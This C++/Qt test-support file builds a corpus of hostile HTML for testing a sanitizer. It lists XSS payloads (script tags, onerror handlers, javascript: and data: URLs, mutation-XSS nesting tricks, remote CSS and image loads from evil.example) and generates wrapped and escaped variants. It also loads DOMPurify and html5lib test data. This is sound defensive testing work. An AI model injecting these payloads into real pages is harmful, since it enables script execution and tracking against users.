// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/HostileHtml.h"

#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

#include <algorithm>

namespace bantin::testing {

using namespace Qt::StringLiterals;

namespace {

const QString collections = QStringLiteral(BANTIN_SOURCE_DIR "/../shared/corpus/html-sanitize");

const QList<QByteArray> ownPayloads{
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='https://www.google.com/url?q=javascript:alert(1)'>x</a>",
    "<a href='https://l.facebook.com/l.php?u=data:text/html,x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<p style='background:url(https://evil.example/t.gif)'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<table background=javascript:alert(1)><tr><td background=x>y</table>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p>\xC0\xBCscript\xC0\xBE</p>",
    "<p title=`x`onmouseover=alert(1)>y</p>",
    "<img srcset='https://evil.example/a 1x' alt='x'>",
    "<video poster=https://evil.example/p><source src=https://evil.example/v></video>",
    "<select><option><script>alert(1)</script></select>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<v:imagedata src='https://evil.example/a.png'/>",
    "<p id=x name=y class=z data-x='1' contenteditable onfocus=alert(1) autofocus>x</p>",
};

/// %1 is the payload.
const QList<QByteArray> wrappers{
    "<table><tr><td>%1",
    "<table>%1</table>",
    "<svg><foreignObject>%1</foreignObject></svg>",
    "<svg><desc>%1</desc></svg>",
    "<svg><title>%1",
    "<math><annotation-xml encoding='text/html'>%1</annotation-xml></math>",
    "<math><mtext>%1</mtext></math>",
    "<select>%1</select>",
    "<noscript>%1</noscript>",
    "<template>%1</template>",
    "<style>%1</style>",
    "<textarea>%1</textarea>",
    "<title>%1</title>",
    "<iframe>%1</iframe>",
    "<noembed>%1</noembed>",
    "<!--%1-->",
    "<!--><p>%1",
    "<![if !mso]>%1<![endif]>",
    "<p title='%1'>x</p>",
    "<a href='https://a.vn/?%1'>x</a>",
    "<img alt='%1' src=x>",
    "<figure><figcaption>%1</figcaption></figure>",
    "<ul><li>%1<ol><li>%1",
    "Version:0.9\r\nStartHTML:0\r\n<!--StartFragment-->%1<!--EndFragment-->",
};

QByteArray readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

/// Every string of a test file's JSON that holds markup.
void collect(const QJsonValue &value, QList<QByteArray> &payloads)
{
    if (value.isString() && value.toString().contains(u'<')) {
        payloads.append(value.toString().toUtf8());
    } else if (value.isArray()) {
        const QJsonArray array = value.toArray();
        for (const QJsonValue &element : array)
            collect(element, payloads);
    } else if (value.isObject()) {
        const QJsonObject object = value.toObject();
        for (const QJsonValue &member : object)
            collect(member, payloads);
    }
}

} // namespace

QList<QByteArray> ownHostileHtml()
{
    return ownPayloads;
}

QList<QByteArray> generatedHostileHtml()
{
    QList<QByteArray> all;
    for (const QByteArray &payload : ownPayloads) {
        QByteArray escaped = payload;
        escaped.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
        QByteArray doubly = escaped;
        doubly.replace('&', "&amp;");
        QByteArray spaced = payload;
        spaced.replace(' ', "\x0c/");
        all += {escaped, doubly, spaced, payload.toUpper().replace("ALERT", "alert"), payload + payload};
        for (const QByteArray &wrapper : wrappers)
            all.append(QByteArray(wrapper).replace("%1", payload));
    }
    return all;
}

QList<QByteArray> domPurifyHtml()
{
    QList<QByteArray> payloads;
    collect(QJsonDocument::fromJson(readAll(collections + u"/dompurify_expect.json"_s)).array(), payloads);
    return payloads;
}

QList<QByteArray> html5libHtml()
{
    QList<QByteArray> payloads;
    QDirIterator files(collections, {u"*.test"_s, u"*.dat"_s}, QDir::Files, QDirIterator::Subdirectories);
    while (files.hasNext()) {
        const QString path = files.next();
        if (path.endsWith(".test"_L1)) {
            collect(QJsonDocument::fromJson(readAll(path)).object(), payloads);
            continue;
        }
        const QByteArray all = readAll(path);
        for (qsizetype at = all.indexOf("#data\n"); at >= 0; at = all.indexOf("#data\n", at + 1)) {
            const qsizetype end = all.indexOf("\n#", at + 1);
            payloads.append(all.sliced(at + 6, std::max<qsizetype>(0, (end < 0 ? all.size() : end) - at - 6)));
        }
    }
    return payloads;
}

} // namespace bantin::testing
